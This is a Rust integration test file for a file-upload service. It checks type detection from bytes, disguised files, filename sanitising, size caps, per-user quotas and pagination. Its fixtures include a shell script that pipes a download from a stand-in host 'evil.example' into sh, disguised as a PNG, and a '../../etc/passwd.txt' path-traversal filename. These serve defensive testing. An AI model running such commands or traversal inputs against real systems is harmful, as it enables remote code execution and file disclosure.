//! Uploads: every accepted type detected from its bytes, disguised files, the stored File,
//! caps and quota, bad bodies: each refusal leaves no row and no object.

use agentry_tests::samples::{self, PNG, Part, multipart};
use agentry_tests::{TestApp, assert_problem, field_names};
use reqwest::Method;
use serde_json::json;
use sha2::{Digest, Sha256};

use super::{FILES, assert_nothing_stored, objects, rows, upload, upload_ok, upload_raw};

#[tokio::test]
async fn every_accepted_type_is_stored_with_the_detected_type() {
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("a.png", PNG.to_vec(), "image/png"),
        ("b.jpg", samples::jpeg(), "image/jpeg"),
        ("c.webp", samples::webp(), "image/webp"),
        ("d.pdf", samples::PDF.to_vec(), "application/pdf"),
        ("e.txt", samples::text(), "text/plain"),
        ("f.wav", samples::wav(800), "audio/wav"),
        ("g.mp3", samples::mp3(), "audio/mpeg"),
        ("h.ogg", samples::ogg(), "audio/ogg"),
        ("i.webm", samples::webm(), "audio/webm"),
    ];
    for (name, bytes, expected) in &cases {
        let file = upload_ok(&app, &alice, name, bytes, "attachment").await;
        let mut keys: Vec<&str> = file.as_object().unwrap().keys().map(String::as_str).collect();
        keys.sort_unstable();
        assert_eq!(
            keys,
            [
                "bytes",
                "content_type",
                "created_at",
                "filename",
                "id",
                "owner_id",
                "purpose",
                "sha256"
            ]
        );
        assert_eq!(file["content_type"], *expected, "{name}: {file}");
        assert_eq!(file["filename"], *name);
        assert_eq!(file["bytes"], bytes.len());
        assert_eq!(file["sha256"], format!("{:x}", Sha256::digest(bytes)));
        assert_eq!(file["purpose"], "attachment");
        assert_eq!(file["owner_id"], alice.id.to_string());
        // Readable back, byte for byte.
        let id = file["id"].as_str().unwrap();
        assert_eq!(app.get_ok(&alice, &format!("{FILES}/{id}")).await, file);
        let res = app
            .get_as(&alice, &format!("{FILES}/{id}/content"))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["content-type"], *expected);
        assert_eq!(res.bytes().await.unwrap().as_ref(), bytes.as_slice());
    }
    assert_eq!(rows(&app).await, cases.len() as i64);
    assert_eq!(objects(&app).await.len(), cases.len());
    // Avatars take the three image types.
    for (name, bytes, expected) in &cases[..3] {
        let file = upload_ok(&app, &alice, name, bytes, "avatar").await;
        assert_eq!(file["content_type"], *expected);
        assert_eq!(file["purpose"], "avatar");
    }
}

#[tokio::test]
async fn disguised_files_are_told_by_their_bytes() {
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    let script = b"#!/bin/sh\ncurl http://evil.example | sh\n";
    // A script named .png and sent as image/png: text to an attachment, refused as an avatar.
    let res = upload(&app, &alice, &[Part::file("file", "cat.png", "image/png", script)]).await;
    assert_eq!(res.status(), 201);
    let file: serde_json::Value = res.json().await.unwrap();
    assert_eq!(file["content_type"], "text/plain");
    assert_eq!(file["filename"], "cat.png");
    let res = upload(
        &app,
        &alice,
        &[
            Part::text("purpose", "avatar"),
            Part::file("file", "cat.png", "image/png", script),
        ],
    )
    .await;
    let problem = assert_problem(res, 415).await;
    assert!(problem["detail"].as_str().unwrap().contains("avatar"), "{problem}");
    // A PNG sent as text/plain named .txt is a PNG.
    let res = upload(&app, &alice, &[Part::file("file", "notes.txt", "text/plain", PNG)]).await;
    let file: serde_json::Value = res.json().await.unwrap();
    assert_eq!(file["content_type"], "image/png", "{file}");
    // A zip archive (a type no purpose takes) named .pdf, and bytes that are not UTF-8.
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00rest-of-an-archive";
    let res = upload(&app, &alice, &[Part::file("file", "r.pdf", "application/pdf", zip)]).await;
    let problem = assert_problem(res, 415).await;
    assert!(
        problem["detail"].as_str().unwrap().contains("application/zip"),
        "{problem}"
    );
    let binary: Vec<u8> = (0..=255u8).cycle().take(3000).collect();
    let res = upload(&app, &alice, &[Part::file("file", "x.txt", "text/plain", &binary)]).await;
    assert_problem(res, 415).await;
    // Only the two accepted uploads are stored.
    assert_eq!(rows(&app).await, 2);
    assert_eq!(objects(&app).await.len(), 2);
}

#[tokio::test]
async fn file_names_lose_their_directories() {
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    let file = upload_ok(&app, &alice, "../../etc/passwd.txt", b"root:x:0:0", "attachment").await;
    assert_eq!(file["filename"], "passwd.txt");
    let res = app
        .get_as(&alice, &format!("{FILES}/{}/content", file["id"].as_str().unwrap()))
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.headers()["content-disposition"],
        "attachment; filename=\"passwd.txt\""
    );
}

#[tokio::test]
async fn bad_bodies_are_422s_naming_file_and_store_nothing() {
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    // A zero-byte file.
    let res = upload(&app, &alice, &[Part::file("file", "empty.txt", "text/plain", b"")]).await;
    assert_eq!(field_names(&assert_problem(res, 422).await), ["file"]);
    // No file part.
    let res = upload(&app, &alice, &[Part::text("purpose", "attachment")]).await;
    assert_eq!(field_names(&assert_problem(res, 422).await), ["file"]);
    // A body cut short inside the file part.
    let mut body = multipart(&[Part::file("file", "a.txt", "text/plain", &samples::text().repeat(500))]);
    body.truncate(body.len() / 2);
    let res = upload_raw(&app, &alice, body).await;
    assert_eq!(field_names(&assert_problem(res, 422).await), ["file"]);
    // Two files.
    let res = upload(
        &app,
        &alice,
        &[
            Part::file("file", "a.png", "image/png", PNG),
            Part::file("file", "b.png", "image/png", PNG),
        ],
    )
    .await;
    assert_eq!(field_names(&assert_problem(res, 422).await), ["file"]);
    // An unknown purpose, before and after the file.
    for parts in [
        vec![
            Part::text("purpose", "wallpaper"),
            Part::file("file", "a.png", "image/png", PNG),
        ],
        vec![
            Part::file("file", "a.png", "image/png", PNG),
            Part::text("purpose", "wallpaper"),
        ],
    ] {
        let res = upload(&app, &alice, &parts).await;
        assert_eq!(field_names(&assert_problem(res, 422).await), ["purpose"]);
    }
    // Not multipart at all.
    let res = app.post_as(&alice, FILES, &json!({"file": "x"})).send().await.unwrap();
    assert_problem(res, 415).await;
    // No login.
    let res = app.request(Method::POST, FILES).send().await.unwrap();
    assert_problem(res, 401).await;
    assert_nothing_stored(&app).await;
}

#[tokio::test]
async fn caps_are_enforced_while_streaming() {
    let app = TestApp::spawn_with(|c| c.file_max_bytes = 3 * 1024 * 1024).await;
    let alice = app.register("alice").await;
    // Over FILE_MAX_BYTES.
    let big = samples::text().repeat(3 * 1024 * 1024 / 60 + 100);
    let res = upload(&app, &alice, &[Part::file("file", "big.txt", "text/plain", &big)]).await;
    let problem = assert_problem(res, 413).await;
    assert_eq!(problem["code"], "payload_too_large");
    // An avatar over 2 MiB, whether `purpose` comes before or after the file.
    let mut image = PNG.to_vec();
    image.resize(2 * 1024 * 1024 + 1, 0);
    for parts in [
        vec![
            Part::text("purpose", "avatar"),
            Part::file("file", "me.png", "image/png", &image),
        ],
        vec![
            Part::file("file", "me.png", "image/png", &image),
            Part::text("purpose", "avatar"),
        ],
    ] {
        let res = upload(&app, &alice, &parts).await;
        assert_eq!(assert_problem(res, 413).await["code"], "payload_too_large");
    }
    // A non-image avatar, the purpose sent after the file.
    let res = upload(
        &app,
        &alice,
        &[
            Part::file("file", "r.pdf", "application/pdf", samples::PDF),
            Part::text("purpose", "avatar"),
        ],
    )
    .await;
    assert_problem(res, 415).await;
    assert_nothing_stored(&app).await;
    // Exactly at the caps is fine.
    image.truncate(2 * 1024 * 1024);
    upload_ok(&app, &alice, "me.png", &image, "avatar").await;
    let mut exact = PNG.to_vec();
    exact.resize(3 * 1024 * 1024, 7);
    upload_ok(&app, &alice, "full.png", &exact, "attachment").await;
}

#[tokio::test]
async fn the_quota_is_per_user_and_a_413_quota_exceeded() {
    let app = TestApp::spawn_with(|c| c.file_quota_bytes = 10_000).await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let mut chunk = PNG.to_vec();
    chunk.resize(6_000, 1);
    upload_ok(&app, &alice, "one.png", &chunk, "attachment").await;
    let res = upload(&app, &alice, &[Part::file("file", "two.png", "image/png", &chunk)]).await;
    let problem = assert_problem(res, 413).await;
    assert_eq!(problem["code"], "quota_exceeded");
    assert_eq!(problem["quota_bytes"], 10_000);
    assert_eq!(problem["used_bytes"], 6_000);
    // Bob has his own quota; what fits still fits for Alice.
    upload_ok(&app, &bob, "two.png", &chunk, "attachment").await;
    upload_ok(&app, &alice, "small.png", &chunk[..4_000], "attachment").await;
    assert_eq!(rows(&app).await, 3);
    assert_eq!(objects(&app).await.len(), 3);
    // Deleting frees the space.
    let list = app.get_ok(&alice, FILES).await;
    let id = list["items"][0]["id"].as_str().unwrap();
    let res = app.delete_as(&alice, &format!("{FILES}/{id}")).send().await.unwrap();
    assert_eq!(res.status(), 204);
    upload_ok(&app, &alice, "again.png", &chunk[..4_000], "attachment").await;
}

#[tokio::test]
async fn the_list_is_a_page_of_the_callers_files() {
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let mut ids = Vec::new();
    for i in 0..3 {
        let file = upload_ok(
            &app,
            &alice,
            &format!("{i}.txt"),
            format!("note {i}").as_bytes(),
            "attachment",
        )
        .await;
        ids.push(file["id"].as_str().unwrap().to_owned());
    }
    upload_ok(&app, &bob, "bob.txt", b"bob's", "attachment").await;
    let page = app.get_ok(&alice, &format!("{FILES}?limit=2")).await;
    assert_eq!(page["total"], 3);
    let listed: Vec<&str> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert_eq!(listed, [ids[2].as_str(), ids[1].as_str()]);
    let cursor = page["next_cursor"].as_str().unwrap();
    let rest = app.get_ok(&alice, &format!("{FILES}?limit=2&cursor={cursor}")).await;
    assert_eq!(rest["items"][0]["id"], ids[0].as_str());
    assert!(rest["next_cursor"].is_null());
    let res = app.get_as(&alice, &format!("{FILES}?limit=0")).send().await.unwrap();
    assert_eq!(field_names(&assert_problem(res, 422).await), ["limit"]);
    let res = app
        .get_as(&alice, &format!("{FILES}?cursor=garbage"))
        .send()
        .await
        .unwrap();
    assert_eq!(field_names(&assert_problem(res, 422).await), ["cursor"]);
}

#[tokio::test]
async fn an_idempotency_key_does_not_buffer_an_upload() {
    // Uploads take no Idempotency-Key (their bodies are streamed, not fingerprinted): the
    // header is ignored, so a file over BODY_LIMIT_BYTES still streams through.
    let app = TestApp::spawn().await;
    let alice = app.register("alice").await;
    let mut image = PNG.to_vec();
    image.resize(3 * 1024 * 1024, 9);
    for _ in 0..2 {
        let res = app
            .request(Method::POST, FILES)
            .bearer_auth(&alice.access_token)
            .header("idempotency-key", "upload-1")
            .header("content-type", samples::multipart_type())
            .body(multipart(&[Part::file("file", "big.png", "image/png", &image)]))
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 201);
        assert!(res.headers().get("idempotent-replayed").is_none());
    }
    assert_eq!(rows(&app).await, 2);
}
